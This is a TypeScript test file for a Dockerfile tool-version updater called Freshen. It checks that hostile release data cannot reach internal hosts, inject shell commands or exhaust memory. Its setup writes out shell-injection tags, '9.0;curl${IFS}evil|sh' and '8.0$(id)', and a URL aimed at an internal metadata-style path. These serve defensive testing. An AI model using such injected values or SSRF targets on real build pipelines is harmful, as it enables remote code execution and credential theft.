// A repository's Dockerfile decides which tool URLs Freshen fetches and a release's publisher decides the tags: neither reaches internal hosts, the shell or unbounded memory.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { directorySource } from '../../src/engine/directory-source.js';
import { scan } from '../../src/engine/index.js';
import { createToolPinsPlanner } from '../../src/engine/planners/tool-pins.js';
import { anonymousGitHubReleases } from '../../src/datasources/github-releases/index.js';
import { createHttpClient } from '../../src/http/index.js';
import { silentLogger } from '../../src/types.js';
import { GitHubSim, startSimServer, type SimServer } from '../support/github-sim/index.js';
import { freePort } from '../support/ports.js';
import { tempCheckout } from '../support/temp-dir.js';

const A = 'a'.repeat(64);
let sim: GitHubSim;
let simServer: SimServer;
let internal: Server;
let internalUrl: string;
const internalHits: string[] = [];

beforeAll(async () => {
  const port = await freePort();
  sim = new GitHubSim({ htmlBase: `http://127.0.0.1:${port}` });
  simServer = await startSimServer(sim, { port });
  // Stands in for a metadata service or an internal admin API: never listed as allowed.
  internal = createServer((req, res) => {
    internalHits.push(req.url ?? '');
    res.end(A);
  });
  await new Promise<void>((resolve) => internal.listen(0, '127.0.0.1', resolve));
  internalUrl = `http://127.0.0.1:${(internal.address() as AddressInfo).port}`;
  sim.createRepo({ owner: 'attacker', name: 'tool', private: false, files: { README: 'x' } });
  sim.createRelease('attacker', 'tool', { tag: '1.0', assets: { 'tool-amd64': 'one' } });
  sim.createRelease('attacker', 'tool', { tag: '2.0', assets: { 'tool-amd64': Buffer.alloc(64 * 1024, 1) } });
  sim.createRelease('attacker', 'tool', { tag: '9.0;curl${IFS}evil|sh', assets: { 'tool-amd64': 'x' } });
  sim.createRelease('attacker', 'tool', { tag: '8.0$(id)', assets: { 'tool-amd64': 'x' } });
});
afterAll(async () => {
  await simServer?.close();
  await new Promise<void>((resolve) => (internal.closeAllConnections(), internal.close(() => resolve())));
});

async function scanWith(dockerfile: string, maxAssetBytes?: number) {
  const http = createHttpClient({ insecureHosts: [new URL(simServer.url).host], retries: 0 });
  const planner = createToolPinsPlanner({ github: anonymousGitHubReleases(http, simServer.url), http, ...(maxAssetBytes ? { maxAssetBytes } : {}) });
  const images = { getTags: async () => [], getDigest: async () => '' };
  return scan(directorySource(tempCheckout('freshen-toolsec-', { Dockerfile: dockerfile })), { images, log: silentLogger, planners: [planner] });
}

describe('tool pins from a hostile repository or publisher', () => {
  it.each(['http', 'https'])('a download URL on an internal address (%s) is never fetched: the update is held, not computed from it', async (scheme) => {
    const result = await scanWith(`FROM scratch
# freshen: datasource=github-releases depName=attacker/tool
ARG TOOL_VERSION=1.0
RUN curl -o t "${internalUrl.replace('http', scheme)}/latest/meta-data/\${TOOL_VERSION}/tool" && echo "${A}  t" | sha256sum -c -
`);
    expect(internalHits).toEqual([]);
    expect(result.updates).toEqual([]);
    expect(result.held).toHaveLength(1);
    expect(result.held[0]!.reason).toMatch(/cannot be had: .*(refusing|not allowed|blocked|private|loopback)/i);
    expect(result.held[0]!.reason).toMatch(/TOOL_VERSION stays at 1\.0/);
  });

  it('tags that would inject shell are never proposed; the newest safe one is', async () => {
    const result = await scanWith(`FROM scratch
ARG TOOL_VERSION=1.0
RUN curl -o t https://github.com/attacker/tool/releases/download/\${TOOL_VERSION}/tool-amd64 && echo "${A}  t" | sha256sum -c -
`);
    const proposed = [...result.updates, ...result.held.map((h) => h.update)].map((u) => u.newValue);
    expect(proposed).toEqual(['2.0']);
  });

  it('an asset larger than the cap is not hashed to the end: the update is held with the size', async () => {
    const result = await scanWith(`FROM scratch
ARG TOOL_VERSION=1.0
RUN curl -o t https://github.com/attacker/tool/releases/download/\${TOOL_VERSION}/tool-amd64 && echo "${A}  t" | sha256sum -c -
`, 1024);
    expect(result.updates).toEqual([]);
    expect(result.held[0]!.reason).toMatch(/more than the 1024 bytes/);
  });
});
